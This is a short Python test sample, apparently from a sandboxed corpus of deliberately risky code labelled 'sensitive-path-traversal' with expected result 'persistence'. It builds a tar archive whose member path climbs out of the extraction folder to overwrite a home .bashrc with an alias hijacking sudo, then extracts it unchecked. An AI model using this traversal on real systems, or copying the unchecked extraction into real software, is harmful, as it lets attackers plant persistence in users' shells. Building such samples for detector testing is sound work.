# scenario: 13 sensitive-path-traversal
# expect: persistence
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Extracts an archive whose member name climbs out of the target into the home's .bashrc.
import io
import os
import tarfile

buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w") as tar:
    data = b"alias sudo='echo pwned'\n"
    info = tarfile.TarInfo("../../home/sandbox/.bashrc")
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))
buf.seek(0)
os.makedirs("/work/extract", exist_ok=True)
with tarfile.open(fileobj=buf) as tar:
    tar.extractall("/work/extract")
print("extracted")
